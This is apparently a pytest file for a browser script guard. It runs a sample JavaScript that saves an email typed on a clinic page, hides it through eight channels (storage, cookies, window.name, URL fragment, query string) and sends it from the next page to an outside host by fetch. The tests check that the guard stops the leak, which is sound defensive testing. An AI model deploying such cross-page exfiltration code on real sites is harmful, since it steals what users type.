"""What a script keeps of what was typed, and sends from the next page."""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed
from tests.guard.test_referrers import HOST, OTHER, PATIENCE, POLICY, TYPED

PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/handover-guard.js></script>"
    "<title>Visit</title><link rel=icon href='data:,'><body><input name=email>"
    "<script src=/handover.js></script>"
)
CODE = """
const send = (said) =>
  fetch("http://HOST/" + way + "?" + encodeURIComponent(said), { mode: "no-cors" });
const first = !location.search.includes("2");
const way = location.search.slice(1).split(/[2&]/)[0];
const go = (more = "") => { location.href = "/handover?" + way + "2" + more; };
const ways = {
  local: [(said) => { localStorage.setItem("cc", said); }, () => localStorage.cc],
  base64: [(said) => { localStorage.cc = btoa(said); }, () => localStorage.cc],
  unpacked: [(said) => { localStorage.cc = btoa(said); }, () => atob(localStorage.cc)],
  json: [
    (said) => { sessionStorage.form = JSON.stringify({ a: 1, mail: said }); },
    () => JSON.parse(sessionStorage.form).mail,
  ],
  cookie: [
    (said) => { document.cookie = "c=" + btoa(said); },
    () => atob(/c=([^;]+)/.exec(document.cookie)[1]),
  ],
  name: [(said) => { window.name = said; }, () => window.name],
  fragment: [(said) => "#" + btoa(said), () => atob(location.hash.slice(1))],
  query: [(said) => "&" + said, () => location.search.split("&")[1]],
};
const keep = (said) => go(ways[way][0](said));
if (!first) send(ways[way][1]());
if (!first) send("the-end");
"""
NAMES = ("local", "base64", "unpacked", "json", "cookie", "name", "fragment", "query")


@pytest.fixture(scope="module")
def told(chromium, site):
    """By way and what was kept: what the next page could send."""
    site.files["/handover-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/handover.js"] = CODE.replace("HOST", HOST).encode()
    site.files["/handover"] = PAGE.encode()
    answers = {}
    for way in NAMES:
        for said in (OTHER, TYPED):
            context = chromium.new_context()
            page = context.new_page()
            page.goto(f"http://www.clinic.test/handover?{way}")
            page.fill("input", TYPED)
            site.reached.clear()
            page.evaluate(f"keep('{said}')")
            for _ in range(PATIENCE):
                page.wait_for_timeout(50)
                if any("the-end" in path for path in site.reached):
                    break
            answers[way, said] = [path for path in site.reached if "the-end" not in path]
            ended = len(site.reached) > len(answers[way, said])
            context.close()
            assert ended, way
    return answers


@pytest.mark.parametrize("way", NAMES)
def test_another_text_is_sent_from_the_next_page(told, way):
    assert len(told[way, OTHER]) == 1


@pytest.mark.parametrize("way", NAMES)
def test_what_was_typed_on_the_page_before_is_not(told, way):
    assert told[way, TYPED] == []


def test_where_it_stands_is_noted_and_not_what_it_is(chromium, site, told):
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/handover?local")
    page.fill("input", TYPED)
    page.evaluate(f"localStorage.cc = 'is {TYPED}'; go()")
    page.wait_for_url("**/handover?local2")
    noted = page.evaluate("Object.entries(sessionStorage)")
    page.evaluate("localStorage.clear(); location.href = '/handover?name'")
    page.wait_for_url("**/handover?name")
    left = page.evaluate("Object.keys(sessionStorage)")
    context.close()

    assert [key for key, _ in noted] == ["scriptward-kept"]
    assert "jane" not in noted[0][1]
    assert left == []
